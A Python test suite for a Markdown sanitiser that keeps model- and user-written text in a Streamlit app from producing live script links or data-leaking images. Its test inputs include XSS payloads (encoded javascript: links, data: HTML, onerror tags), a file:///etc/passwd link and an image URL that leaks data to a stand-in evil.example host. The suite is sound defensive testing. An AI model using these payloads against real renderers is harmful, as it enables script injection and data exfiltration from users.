"""Safe rendering of user- and model-written Markdown (nexus_core.markdown.safe, OWASP LLM05)."""

from __future__ import annotations

import textwrap
from urllib.parse import urlsplit

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token
from streamlit.testing.v1 import AppTest

from nexus_core.markdown.safe import (
    IMAGE_HOSTS_DEFAULT,
    IMAGE_MARK,
    NBSP,
    WORD_JOINER,
    escape_markdown,
    find_unsafe,
    is_allowed_image,
    is_allowed_link,
    safe_markdown,
)

ALLOWED_HOST = "images.example.com"
WEB_SCHEMES = ("http", "https", "mailto")


def gfm_parser() -> MarkdownIt:
    """Stock markdown-it-py set up as close to Streamlit's GFM as it goes: an independent check."""
    md = MarkdownIt("commonmark", {"linkify": True}).enable(["table", "strikethrough", "linkify"])
    # GFM only makes bare links of www., http(s):// and e-mail addresses.
    md.linkify.add("ftp:", None)
    md.linkify.add("//", None)
    md.validateLink = lambda url: True  # type: ignore[method-assign]
    md.normalizeLink = lambda url: url  # type: ignore[method-assign]
    return md


GFM = gfm_parser()


def live_urls(markdown: str) -> tuple[list[str], list[str]]:
    """(hrefs, image srcs) that a CommonMark/GFM renderer makes of ``markdown``."""
    hrefs: list[str] = []
    images: list[str] = []

    def walk(tokens: list[Token]) -> None:
        for token in tokens:
            if token.type == "link_open":
                hrefs.append(str(token.attrs["href"]))
            elif token.type == "image":
                images.append(str(token.attrs["src"]))
            walk(token.children or [])

    walk(GFM.parse(markdown))
    return hrefs, images


def assert_safe(markdown: str, hosts: tuple[str, ...] = (ALLOWED_HOST,)) -> None:
    hrefs, images = live_urls(markdown)
    assert [h for h in hrefs if urlsplit(h.strip()).scheme.lower() not in WEB_SCHEMES] == []
    assert [i for i in images if not is_allowed_image(i, hosts)] == []
    assert find_unsafe(markdown, allowed_image_hosts=hosts) == []


# --- links ---------------------------------------------------------------------------------------


def test_javascript_link_shows_its_text_and_the_url_as_code() -> None:
    out = safe_markdown("Click [here](javascript:alert(1)) now")

    assert out == "Click here (` javascript:alert(1) `) now"
    assert live_urls(out) == ([], [])


@pytest.mark.parametrize(
    "destination",
    [
        "JaVaScRiPt:alert(1)",
        "&#106;avascript:alert(1)",
        "&#x6A;&#x61;vascript:alert(1)",
        "java&#9;script:alert(1)",
        "<java\tscript:alert(1)>",
        "java&#10;script:alert(1)",
        "&#x20;javascript:alert(1)",
        "javascript&colon;alert(1)",
        "\\javascript:alert(1)",
    ],
)
def test_encoded_and_mixed_case_javascript_links_are_neutralised(destination: str) -> None:
    out = safe_markdown(f"[x]({destination})")

    assert "](" not in out
    assert_safe(out)


@pytest.mark.parametrize(
    "url",
    [
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "vbscript:msgbox(1)",
        "file:///etc/passwd",
        "//evil.example/scheme-relative",
        "/admin",
        "#fragment",
        "ftp://example.com/x",
    ],
)
def test_links_other_than_web_and_mail_become_text(url: str) -> None:
    out = safe_markdown(f"see [the doc]({url})")

    assert out == f"see the doc (` {url} `)"


def test_web_and_mail_links_are_kept_byte_for_byte() -> None:
    text = (
        '[site](https://example.com/a?b=c "Title") [plain](http://example.com) '
        "[mail](mailto:team@example.com) <https://example.com/auto> www.example.com"
    )

    assert safe_markdown(text) == text


def test_reference_definition_with_javascript_is_rewritten_where_used() -> None:
    out = safe_markdown("[full][js] and [js][] and [js]\n\n[js]: javascript:alert(1)\n")

    assert out.splitlines()[0] == (
        "full (` javascript:alert(1) `) and js (` javascript:alert(1) `) and "
        "js (` javascript:alert(1) `)"
    )
    assert_safe(out)


def test_autolink_with_a_disallowed_scheme_becomes_inline_code() -> None:
    assert safe_markdown("go <javascript:alert(1)> or <https://example.com>") == (
        "go ` javascript:alert(1) ` or <https://example.com>"
    )


def test_url_with_backticks_gets_a_longer_code_fence() -> None:
    out = safe_markdown("[x](<javascript:a`b``c>)")

    assert out == "x (``` javascript:a`b``c ```)"


def test_nested_brackets_keep_the_inner_text() -> None:
    out = safe_markdown("[a [nested] label](javascript:alert(1))")

    assert out == "a [nested] label (` javascript:alert(1) `)"


def test_disallowed_link_in_a_table_cell_keeps_the_table() -> None:
    text = "| a | b |\n|---|---|\n| [cell](javascript:alert(1)) | ok |"

    out = safe_markdown(text)

    assert out == "| a | b |\n|---|---|\n| cell (` javascript:alert(1) `) | ok |"
    assert [t.type for t in GFM.parse(out)].count("td_open") == 2


def test_multi_line_link_in_a_block_quote_stays_in_the_quote() -> None:
    out = safe_markdown("> [two\n> lines](javascript:alert(1))")

    assert out == "> two\n> lines (` javascript:alert(1) `)"


# --- images --------------------------------------------------------------------------------------


def test_image_from_a_host_not_allow_listed_becomes_a_link() -> None:
    out = safe_markdown("![chart](https://evil.example/leak?d=secret)")

    assert out == f"[{IMAGE_MARK} chart](<https://evil.example/leak?d=secret>)"
    assert live_urls(out) == (["https://evil.example/leak?d=secret"], [])


def test_allow_listed_image_is_kept() -> None:
    text = (
        f"![chart](https://{ALLOWED_HOST}/c.png 'Chart') and ![b](HTTP://Images.Example.com:8443/b)"
    )

    assert safe_markdown(text, allowed_image_hosts=[ALLOWED_HOST]) == text


def test_no_image_loads_by_default() -> None:
    assert IMAGE_HOSTS_DEFAULT == ()
    assert live_urls(safe_markdown(f"![c](https://{ALLOWED_HOST}/c.png)"))[1] == []


@pytest.mark.parametrize(
    "url",
    [
        f"https://{ALLOWED_HOST}.evil.example/x.png",
        f"https://evil.example/{ALLOWED_HOST}/x.png",
        f"https://{ALLOWED_HOST}@evil.example/x.png",
        f"https://{ALLOWED_HOST}\\@evil.example/x.png",
        f"https://x{ALLOWED_HOST}/x.png",
        f"//{ALLOWED_HOST}/x.png",
        f"ftp://{ALLOWED_HOST}/x.png",
        f"https://{ALLOWED_HOST}:80x/x.png",
    ],
)
def test_image_allow_list_is_an_exact_host_match(url: str) -> None:
    out = safe_markdown(f"![x]({url})", allowed_image_hosts=[ALLOWED_HOST])

    assert live_urls(out)[1] == []
    assert_safe(out)


def test_data_image_becomes_plain_text() -> None:
    out = safe_markdown("![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)")

    assert out == f"{IMAGE_MARK} x (` data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+ `)"


def test_reference_style_image_becomes_a_link() -> None:
    out = safe_markdown("![alt *text* [1]][r]\n\n[r]: http://evil.example/r.png")

    assert out.startswith(f"[{IMAGE_MARK} alt text \\[1\\]](<http://evil.example/r.png>)")
    assert_safe(out)


def test_image_inside_a_web_link_becomes_its_alt_text() -> None:
    out = safe_markdown("[![logo](http://evil.example/l.png)](https://example.com)")

    assert out == f"[{IMAGE_MARK} logo](https://example.com)"


def test_image_inside_a_javascript_link_is_disarmed_too() -> None:
    out = safe_markdown("[![logo](http://evil.example/l.png)](javascript:alert(1))")

    assert out == (f"[{IMAGE_MARK} logo](<http://evil.example/l.png>) (` javascript:alert(1) `)")


def test_text_image_start_that_no_parser_took_gets_a_word_joiner() -> None:
    out = safe_markdown("<b title='![x](http://evil.example/a)'>")

    assert out == f"<b title='!{WORD_JOINER}[x](http://evil.example/a)'>"


# --- what must not change ------------------------------------------------------------------------


def test_code_blocks_and_inline_code_are_untouched() -> None:
    text = textwrap.dedent(
        """\
        Use `[x](javascript:alert(1))` or `![i](http://evil.example/i)` in docs.

        ```markdown
        [x](javascript:alert(1)) ![i](http://evil.example/i)
        ```

        ~~~
        let v = vec![1, 2];
        ~~~

        - item

              ![indented code](http://evil.example/i)
        """
    ).strip()

    assert safe_markdown(text) == text


def test_ordinary_markdown_is_returned_unchanged() -> None:
    text = textwrap.dedent(
        """\
        # Heading with [a link](https://example.com)

        Some **bold**, _emphasis_, ~~strike~~ and a footnote.[^1]

        1. first
        2. second
           - nested with www.example.com

        | Name | Value |
        |:-----|------:|
        | pi   | $3.14$ |

        > quoted :red[colored] text and :material/home: icon

        $$
        e^{i\\pi} + 1 = 0
        $$

        [^1]: The note.
        """
    ).strip()

    assert safe_markdown(text) == text


def test_raw_html_is_left_for_streamlit_to_show_as_text() -> None:
    text = '<script>alert(1)</script> <img src=x onerror=alert(1)> <a href="javascript:x">a</a>'

    assert safe_markdown(text) == text


def test_text_is_dedented_and_stripped_as_st_markdown_does() -> None:
    # st.markdown dedents, so this indented image is not code in the browser.
    out = safe_markdown("    ![x](http://evil.example/i)\n    more\n")

    assert out == f"[{IMAGE_MARK} x](<http://evil.example/i>)\nmore"


# --- where Streamlit's parser differs from CommonMark ----------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        # A GFM bare URL runs to the next space and swallows the opening backtick.
        "www.example.com/`x ![y](http://evil.example/a) `",
        "https://example.com/`x ![y](http://evil.example/b) `",
        # micromark ends an unquoted attribute at `/`, so these are not HTML tags.
        "<object data=![x](http://evil.example/c)>",
        "<span data=http://x>\n![x](http://evil.example/d)",
        "<span\u00a0title='![x](http://evil.example/e)'>",
        # A footnote definition holds Markdown, not a link destination.
        "[^1]\n\n[^1]: ![x](http://evil.example/f)",
        "[^1]\n\n[^1]: a\n\n    ![x](http://evil.example/g)",
        # With math on, `$` spans hide a backtick that would otherwise open a code span.
        "$a$ $`$ ![x](http://evil.example/h) `",
        "$a$ and $$\n![x](http://evil.example/i)\n$$",
    ],
)
def test_images_that_streamlit_would_load_are_found(text: str) -> None:
    out = safe_markdown(text)

    assert "evil.example" in out
    assert find_unsafe(out) == []
    assert find_unsafe(text) != []


def test_text_nested_deeper_than_the_parser_follows_is_shown_as_code() -> None:
    text = "[" * 60 + "![x](http://evil.example/i)" + "]" * 60

    out = safe_markdown(text)

    assert out == f"```\n{text}\n```"


@pytest.mark.timeout(10)
@pytest.mark.parametrize(
    "body",
    [
        "[" * 100_000,
        "![" * 50_000,
        "<a " * 33_000,
        "`a" * 50_000,
        "$a " * 33_000,
        "_www.a_" * 14_000,
        "http://a.b/" + "!" * 100_000,
        "[x](javascript:a) " * 5_500,
        "![x](http://e/x) " * 5_800,
        "|a|\n|-|\n" + "|[x](javascript:y) ![i](http://z)|\n" * 2_800,
    ],
    ids=[
        "brackets",
        "image-starts",
        "tags",
        "backticks",
        "dollars",
        "www",
        "trail",
        "links",
        "images",
        "table",
    ],
)
def test_a_100_kb_adversarial_message_is_rendered_quickly(body: str) -> None:
    text = "[a](javascript:b) " + body

    assert_safe(safe_markdown(text))


# --- properties ----------------------------------------------------------------------------------

FRAGMENTS = [
    "[", "]", "(", ")", "![", "](", "<", ">", "`", "``", "$", "$$", "\\", "*", "_", "~", "|",
    "\n", "\n\n", "    ", "> ", "- ", "1. ", "# ", "---", " ", "x", "\t", '"t"', "&amp;", "&#33;",
    "javascript:alert(1)", "JaVaScRiPt:x", "&#106;avascript:x", "data:text/html,x", "vbscript:x",
    "http://evil.test/x", "https://ok.test/y", "//evil.test/z", "mailto:a@b.co", "www.evil.test/",
    "a@b.co", f"https://{ALLOWED_HOST}/i.png", "[r]: javascript:x\n", "[r]: http://evil.test/r\n",
    "[r]", "[^1]", "[^1]: ", "<a href=", "/>", ":red[", "]{x=y}", "```\n", "~~~\n",
]  # fmt: skip
markdownish = st.lists(st.sampled_from(FRAGMENTS), max_size=40).map("".join)


@settings(max_examples=400, deadline=None)
@given(st.one_of(markdownish, st.text(max_size=200)))
def test_output_never_has_a_live_link_or_image_the_policy_forbids(text: str) -> None:
    out = safe_markdown(text, allowed_image_hosts=[ALLOWED_HOST])

    assert_safe(out)
    assert textwrap.dedent(out).strip() == out  # st.markdown will not change it again


@settings(max_examples=200, deadline=None)
@given(markdownish)
def test_rendering_twice_changes_nothing(text: str) -> None:
    once = safe_markdown(text, allowed_image_hosts=[ALLOWED_HOST])

    assert safe_markdown(once, allowed_image_hosts=[ALLOWED_HOST]) == once


@given(st.text(alphabet=st.characters(blacklist_characters="[<"), max_size=200))
def test_text_that_cannot_hold_a_link_only_gets_st_markdown_cleaning(text: str) -> None:
    # Line endings as CommonMark reads them, and NUL as it replaces it.
    normal = text.replace("\r\n", "\n").replace("\r", "\n").replace("\0", "\ufffd")

    assert safe_markdown(text) == textwrap.dedent(normal).strip()


# --- helpers and the Streamlit call ---------------------------------------------------------


@pytest.mark.parametrize(
    ("url", "allowed"),
    [
        ("https://example.com", True),
        ("  MAILTO:a@example.com", True),
        ("\x01http://example.com", True),
        ("javascript:alert(1)", False),
        ("java\tscript:alert(1)", False),
        ("ｊavascript:alert(1)", False),
        ("", False),
        ("relative/path", False),
    ],
)
def test_is_allowed_link_reads_the_scheme_as_a_browser_does(url: str, allowed: bool) -> None:
    assert is_allowed_link(url) is allowed


def _render_script() -> None:
    from nexus_core.ui import show

    show.markdown("[x](javascript:alert(1)) <b>hi</b> ![i](http://evil.example/i)")


def test_show_markdown_shows_safe_markdown_without_html() -> None:
    at = AppTest.from_function(_render_script).run()

    [markdown] = at.markdown
    assert markdown.value == (
        f"x (` javascript:alert(1) `) <b>hi</b> [{IMAGE_MARK} i](<http://evil.example/i>)"
    )
    assert markdown.proto.allow_html is False


# --- plain text inside Markdown-rendering widgets (escape_markdown, show.plain) ------------------

HOSTILE_PLAIN = (
    "![i](http://evil.example/i) [l](https://evil.example/l) <http://evil.example/a> "
    "http://evil.example/bare HTTPS://evil.example/upper www.evil.example mail@evil.example "
    "mailto:x@evil.example ![r][r] &lt;b&gt; :red[x] :smile: $x^2$ *e* _u_ ~s~ `c`\n"
    "# heading\n    indented\n> quote\n1. item\n\n[r]: http://evil.example/ref"
)


def test_plain_text_has_no_link_image_or_markup_in_any_gfm_reading() -> None:
    out = escape_markdown(HOSTILE_PLAIN)

    assert live_urls(out) == ([], [])  # linkify included: bare URLs and e-mails stay text
    assert find_unsafe(out) == []
    tokens = [t.type for t in GFM.parse(out)]
    assert set(tokens) <= {"paragraph_open", "inline", "paragraph_close"}


def test_plain_text_reads_back_as_typed() -> None:
    out = escape_markdown(HOSTILE_PLAIN)
    text = "\n".join(
        "".join(child.content if child.type == "text" else "\n" for child in token.children or [])
        for token in GFM.parse(out)
        if token.type == "inline"
    )

    shown = text.replace(WORD_JOINER, "").replace(NBSP, " ")
    assert shown.split() == HOSTILE_PLAIN.split()


def test_plain_text_breaks_bare_links_with_an_invisible_word_joiner_only() -> None:
    out = escape_markdown("see http://a.example, www.b.example or c@d.example")

    assert out == (
        f"see http{WORD_JOINER}\\:\\/\\/a\\.example\\, www{WORD_JOINER}\\.b\\.example "
        f"or c\\@{WORD_JOINER}d\\.example"
    )
